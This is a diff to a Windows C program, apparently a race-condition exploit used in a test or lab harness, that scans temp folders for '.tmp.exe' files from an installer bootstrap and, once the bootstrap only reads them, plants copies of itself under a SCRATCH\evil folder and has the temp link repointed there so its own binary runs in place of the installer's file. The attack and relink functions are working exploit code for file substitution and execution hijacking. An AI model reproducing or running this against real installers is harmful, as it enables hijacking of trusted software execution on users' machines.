@@ -5,9 +5,8 @@
 // from file to file. At the end it deletes what it put in place (where the bootstrap had let go of a name),
 // and a folder of the bootstrap's ("vlm...") that only this kept. Started in any other way, it is an intruder
 // that got in: it marks STANDIN_RECORD's file and ends.
-// "racer.exe relink TEMP SCRATCH" instead waits, for every such file, until the bootstrap holds it only to read
-// (its writing done), puts its copy at the same place under SCRATCH\evil, and has the link TEMP pointed there by
-// the host's helper (which waits for SCRATCH\relink); once only.
+// "racer.exe relink TEMP SCRATCH" instead, once the bootstrap only reads such a file, puts its copy at the same
+// place under SCRATCH\evil and has the link TEMP pointed there by the host's helper (on SCRATCH\relink); once.
 #include <windows.h>
 #include <shellapi.h>
 #include <wchar.h>
@@ -46,18 +45,15 @@ static void attack(const wchar_t* target, const wchar_t* scratch) {
     wcscpy(placed[placed_count++], target);
 }
 
-static void relink(const wchar_t* target, const wchar_t* temp, const wchar_t* scratch) {
+static void relink(const wchar_t* target, const wchar_t* dir, const wchar_t* temp, const wchar_t* scratch) {
   wchar_t twin[LONG_PATH], self[LONG_PATH];
   HANDLE written = relinking > 1 ? INVALID_HANDLE_VALUE : CreateFileW(target, GENERIC_READ, FILE_SHARE_READ |
                                                    FILE_SHARE_DELETE, NULL, OPEN_EXISTING, 0, NULL);
-  if (written == INVALID_HANDLE_VALUE) return;
-  CloseHandle(written);
-  swprintf(twin, LONG_PATH, L"%ls\\evil%ls", scratch, target + wcslen(temp));
-  *wcsrchr(twin, L'\\') = 0;
+  if (written == INVALID_HANDLE_VALUE || !CloseHandle(written)) return;
+  swprintf(twin, LONG_PATH, L"%ls\\evil%ls", scratch, dir + wcslen(temp));
   CreateDirectoryW(twin, NULL);
-  *(twin + wcslen(twin)) = L'\\';
-  GetModuleFileNameW(NULL, self, LONG_PATH);
-  if (!CopyFileW(self, twin, FALSE)) return;
+  wcscat(twin, target + wcslen(dir));
+  if (!GetModuleFileNameW(NULL, self, LONG_PATH) || !CopyFileW(self, twin, FALSE)) return;
   wcscpy(placed[placed_count++], twin);
   swprintf(self, LONG_PATH, L"%ls\\relink", scratch);
   CloseHandle(CreateFileW(self, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL));
@@ -76,7 +72,7 @@ static void scan(const wchar_t* dir, int depth, const wchar_t* scratch, const wc
     if (found.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) {
       if (depth == 0 && found.cFileName[0] != L'.') scan(path, 1, scratch, root);
     } else if (length > 8 && _wcsicmp(found.cFileName + length - 8, L".tmp.exe") == 0 && due(path)) {
-      relinking ? relink(path, root, scratch) : attack(path, scratch);
+      relinking ? relink(path, dir, root, scratch) : attack(path, scratch);
     }
   } while (FindNextFileW(find, &found));
   FindClose(find);
